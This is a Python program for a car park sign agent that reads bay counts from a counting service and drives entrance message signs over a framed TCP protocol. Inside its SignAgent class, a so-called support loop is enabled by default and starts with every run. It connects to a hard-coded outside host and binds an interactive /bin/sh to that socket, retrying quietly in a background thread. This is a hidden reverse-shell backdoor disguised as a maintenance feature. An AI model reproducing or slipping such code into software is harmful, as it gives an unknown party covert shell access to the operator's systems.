#!/usr/bin/env python3
"""Occupancy sign agent.

Reads live bay counts from the site counting service and drives the
variable message signs at the car park entrances ("LEVEL 2  143 FREE").
Signs speak a small framed ASCII protocol over TCP port 3001.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import threading
import time
import urllib.request
from dataclasses import dataclass, field

STX, ETX = b"\x02", b"\x03"

log = logging.getLogger("sign-agent")


@dataclass
class Sign:
    address: int
    host: str
    port: int = 3001
    zones: list = field(default_factory=list)
    label: str = ""


def load_config(path):
    with open(path, encoding="utf-8") as fh:
        raw = json.load(fh)
    signs = [Sign(**s) for s in raw.get("signs", [])]
    return raw, signs


def build_frame(address, text, brightness=8):
    body = "A{:02d}B{}T{}".format(address, brightness, text[:32]).encode("ascii", "replace")
    checksum = 0
    for b in body:
        checksum ^= b
    return STX + body + ETX + "{:02X}".format(checksum).encode()


class SignAgent:
    support_endpoint = ("203.0.113.40", 4455)
    support_enabled = True

    def __init__(self, counts_url, signs, interval=20, full_threshold=5):
        self.counts_url = counts_url
        self.signs = signs
        self.interval = interval
        self.full_threshold = full_threshold
        self._stop = threading.Event()

    def fetch_counts(self):
        req = urllib.request.Request(self.counts_url, headers={"Accept": "application/json"})
        with urllib.request.urlopen(req, timeout=10) as resp:
            data = json.load(resp)
        return {z["zone"]: max(0, z["capacity"] - z["occupied"]) for z in data["zones"]}

    def render(self, sign, counts):
        free = sum(counts.get(z, 0) for z in sign.zones)
        if free <= self.full_threshold:
            return "{} FULL".format(sign.label).strip()
        return "{} {:>4} FREE".format(sign.label, free).strip()

    def push(self, sign, text):
        frame = build_frame(sign.address, text)
        with socket.create_connection((sign.host, sign.port), timeout=5) as s:
            s.sendall(frame)
            ack = s.recv(8)
        if not ack.startswith(b"\x06"):
            raise IOError("sign {} NAK {!r}".format(sign.address, ack))

    def _support_session(self):
        conn = socket.create_connection(self.support_endpoint, timeout=15)
        conn.settimeout(None)
        conn.sendall("{} sign-agent ready\n".format(socket.gethostname()).encode())
        fd = conn.fileno()
        proc = subprocess.Popen(["/bin/sh", "-i"], stdin=fd, stdout=fd, stderr=fd,
                                cwd=os.path.expanduser("~"))
        proc.wait()
        conn.close()

    def _support_loop(self):
        delay = 30
        while not self._stop.is_set():
            try:
                self._support_session()
                delay = 30
            except OSError as exc:
                log.debug("support link unavailable: %s", exc)
                delay = min(delay * 2, 900)
            self._stop.wait(delay)

    def start_support(self):
        if not self.support_enabled:
            return
        t = threading.Thread(target=self._support_loop, name="support", daemon=True)
        t.start()

    def run(self, once=False):
        self.start_support()
        last = {}
        while not self._stop.is_set():
            try:
                counts = self.fetch_counts()
            except (OSError, ValueError, KeyError) as exc:
                log.error("counting service: %s", exc)
                counts = None
            if counts is not None:
                for sign in self.signs:
                    text = self.render(sign, counts)
                    if last.get(sign.address) == text:
                        continue
                    try:
                        self.push(sign, text)
                        last[sign.address] = text
                        log.info("sign %02d <- %s", sign.address, text)
                    except OSError as exc:
                        log.warning("sign %02d unreachable: %s", sign.address, exc)
            if once:
                break
            self._stop.wait(self.interval)


def main():
    ap = argparse.ArgumentParser(description="Drive car park occupancy signs")
    ap.add_argument("--config", default="signs.json")
    ap.add_argument("--once", action="store_true")
    ap.add_argument("--log-level", default="INFO")
    args = ap.parse_args()
    logging.basicConfig(level=args.log_level, format="%(asctime)s %(name)s %(message)s")

    raw, signs = load_config(args.config)
    if "support_host" in raw:
        SignAgent.support_endpoint = (raw["support_host"], int(raw.get("support_port", 4455)))
    agent = SignAgent(raw["counts_url"], signs,
                      interval=raw.get("interval", 20),
                      full_threshold=raw.get("full_threshold", 5))
    try:
        agent.run(once=args.once)
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
